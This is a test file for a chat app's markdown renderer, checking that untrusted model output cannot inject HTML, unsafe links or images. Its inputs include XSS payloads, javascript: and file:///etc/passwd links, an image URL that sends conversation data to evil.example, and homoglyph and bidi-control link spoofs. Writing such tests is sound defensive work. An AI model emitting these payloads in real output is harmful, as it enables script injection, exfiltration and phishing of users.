/**
 * The markdown side of the chat renderer (src/ui/chat/markdown.ts), DOM-free: raw HTML stays text, links only
 * http(s), images never become <img>, code is highlighted only when asked. (DOMPurify, the second gate, and the
 * XSS corpus in real Chromium are separate.)
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createMarkdown, highlightCode, isSafeLink } from '../../src/ui/chat/markdown';
import { hostNamedBy, textMisleads } from '../../src/core/linkText';

const md = createMarkdown({ highlight: true, imageLabel: 'image' });
const plain = createMarkdown({ highlight: false });

describe('chat markdown (untrusted model output)', () => {
  it('shows raw HTML as text (html: false)', () => {
    const out = md.render(
      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="https://evil"></iframe>',
    );
    assert.ok(!/<script|<img|<iframe/i.test(out), out);
    assert.ok(out.includes('&lt;script&gt;'));
  });

  it('links only to absolute http(s) URLs', () => {
    for (const bad of [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](data:text/html,<b>)',
      '[x](file:///etc/passwd)',
      '[x](//evil.example/p)',
      '[x](vscode:extension/x)',
      '[x](command:workbench.action.terminal.new)',
    ]) {
      const out = md.render(bad);
      assert.ok(!out.includes('href='), `${bad} → ${out}`);
    }
    assert.match(
      md.render('[ok](https://example.com/a?b=1)'),
      /<a href="https:\/\/example\.com\/a\?b=1" title="https:\/\/example\.com\/a\?b=1">ok<\/a>/,
    );
    assert.match(md.render('see https://example.com'), /href="https:\/\/example\.com"/, 'linkify');
    assert.equal(isSafeLink('https://x'), true);
    assert.equal(isSafeLink(' http://x/'), true);
    assert.equal(isSafeLink('https:/x'), false);
    assert.equal(isSafeLink('mailto:a@b'), false);
  });

  it('never renders an image: the markdown image becomes a labelled link (exfiltration stays a click away)', () => {
    const out = md.render('![secret](https://evil.example/p.png?q=conversation)');
    assert.ok(!/<img/i.test(out), out);
    assert.match(
      out,
      /<a href="https:\/\/evil\.example\/p\.png\?q=conversation" class="image-link"[^>]*>\[image: secret\]<\/a>/,
    );
    const rel = md.render('![x](//evil.example/p.png)');
    assert.ok(!/<img/i.test(rel) && !rel.includes('href='), rel);
  });

  it('highlights a closed fence with highlight.js classes; the plain renderer does not', () => {
    const src = '```ts\nconst x: number = 1;\n```';
    assert.match(md.render(src), /<span class="hljs-keyword">const<\/span>/);
    assert.ok(!plain.render(src).includes('hljs-'));
    assert.equal(highlightCode('x', 'no-such-language'), '');
    assert.ok(highlightCode('SELECT 1', 'sql').includes('hljs-keyword'));
  });

  it('escapes text inside code (no markup can come out of a fence)', () => {
    const out = md.render('```html\n<script>alert(1)</script>\n```');
    assert.ok(!out.includes('<script>'), out);
  });
});

describe('chat markdown that does not mislead', () => {
  it("every link's title is its real destination, not the title the text gave", () => {
    assert.match(md.render('[x](https://a.example/p "https://bank.example")'), /title="https:\/\/a\.example\/p"/);
    // user info and an IDN look-alike: the title shows the normalised href (user info, punycode host)
    assert.match(md.render('[x](https://bank.example@evil.test/)'), /title="https:\/\/bank\.example@evil\.test\/"/);
    assert.match(md.render('[x](https://аpple.com/)'), /title="https:\/\/xn--pple-43d\.com\/"/);
  });

  it('a link whose text names another host, or holds a bidi control, is marked deceptive', () => {
    for (const src of [
      '[https://bank.example/login](https://evil.test/login)',
      '[www.bank.example](https://evil.test)',
      '[bank.example](https://bank.example.evil.test)',
      '[report\u202Efdp.exe](https://files.example/r)',
      '[https://apple.com](https://аpple.com)',
    ])
      assert.match(md.render(src), /class="deceptive-link"/, src);
    for (const src of [
      '[the docs](https://docs.example/a)',
      '[docs.example](https://docs.example/a)',
      '[www.docs.example](https://docs.example/a)',
      'https://docs.example/a',
      '[https://DOCS.example/](https://docs.example/b)',
    ])
      assert.doesNotMatch(md.render(src), /deceptive-link/, src);
    assert.equal(hostNamedBy('see the docs'), undefined);
    assert.equal(hostNamedBy('https://user@bank.example:8443/x'), 'bank.example');
    assert.equal(textMisleads('v1.2', 'https://a.example'), false, 'a version number names no host');
  });

  it('an image inside a link is its label only: no link nests in a link', () => {
    const out = md.render('[![logo](https://img.example/l.png)](https://site.example)');
    assert.equal((out.match(/<a /g) ?? []).length, 1, out);
    assert.match(out, /<a href="https:\/\/site\.example"[^>]*><span class="image-link">\[image: logo\]<\/span><\/a>/);
  });

  it('table column alignment is a class, never an inline style', () => {
    const out = md.render('| l | c | r | n |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |');
    assert.ok(!out.includes('style='), out);
    for (const a of ['left', 'center', 'right'])
      assert.equal((out.match(new RegExp(`class="align-${a}"`, 'g')) ?? []).length, 2, a);
    assert.match(out, /<th>n<\/th>/);
  });

  it('bidi controls and zero-width characters in code show as marked placeholders, the character kept hidden', () => {
    const code = 'if (role != "user\u202E \u2066// admin\u2069 \u2066") {}\nconst a\u200B = 1;';
    for (const r of [md, plain]) {
      const out = r.render(`\`\`\`js\n${code}\n\`\`\``);
      for (const cp of ['202E', '2066', '2069', '200B'])
        assert.match(
          out,
          new RegExp(
            `<span class="invisible-char" title="U\\+${cp}">\u27e8U\\+${cp}\u27e9</span><span class="invisible-raw">\\u${cp}</span>`,
            'u',
          ),
          cp,
        );
      // the code's text (what Copy takes) is the code as it came, placeholders aside
      const text = out.replace(/<span class="invisible-char"[^>]*>[^<]*<\/span>/g, '').replace(/<[^>]+>/g, '');
      assert.equal(text.replace(/&quot;/g, '"').trim(), code);
    }
    assert.match(md.render('`a\u202Eb`'), /invisible-char/);
    assert.doesNotMatch(md.render('plain \u200B text'), /invisible-char/, 'prose is left alone');
  });

  it("bidi controls and zero-width characters in a link's text (an autolink's URL too) show as marked placeholders", () => {
    const reveal = (cp: string) =>
      new RegExp(
        `<span class="invisible-char" title="U\\+${cp}">\u27e8U\\+${cp}\u27e9</span><span class="invisible-raw">\\u${cp}</span>`,
        'u',
      );
    for (const r of [md, plain]) {
      const named = r.render('[pay\u200Bpal.example\u202Egnp.exe](https://evil.example/x)');
      const link = /<a [^>]*>(.*?)<\/a>/s.exec(named)?.[1] ?? '';
      assert.match(link, reveal('200B'), named);
      assert.match(link, reveal('202E'), named);
      assert.match(named, /class="deceptive-link"/, 'still marked as misleading');
      // the text as it came, placeholders aside (what the host reviews)
      assert.equal(
        link.replace(/<span class="invisible-char"[^>]*>[^<]*<\/span>/g, '').replace(/<[^>]+>/g, ''),
        'pay\u200Bpal.example\u202Egnp.exe',
      );
      // an autolink's text is its URL: shown with the same placeholders; the href carries it percent-encoded
      const auto = r.render('<https://a.example/x\u2066y>');
      assert.match(/<a [^>]*>(.*?)<\/a>/s.exec(auto)?.[1] ?? '', reveal('2066'), auto);
      assert.match(auto, /href="https:\/\/a\.example\/x%E2%81%A6y"/, auto);
      assert.match(
        auto,
        /title="https:\/\/a\.example\/x%E2%81%A6y"/,
        'the title (the real destination) shows it encoded',
      );
      // an image's alt text inside a link: the same
      assert.match(r.render('[![lo\u200Dgo](https://i.example/l.png)](https://site.example)'), reveal('200D'));
      // outside links, prose stays as it was; the next render does not think it is still inside a link
      assert.doesNotMatch(r.render('[a](https://a.example) then \u200B prose'), /invisible-char/);
      assert.doesNotMatch(r.render('plain \u200B text'), /invisible-char/);
    }
  });
});
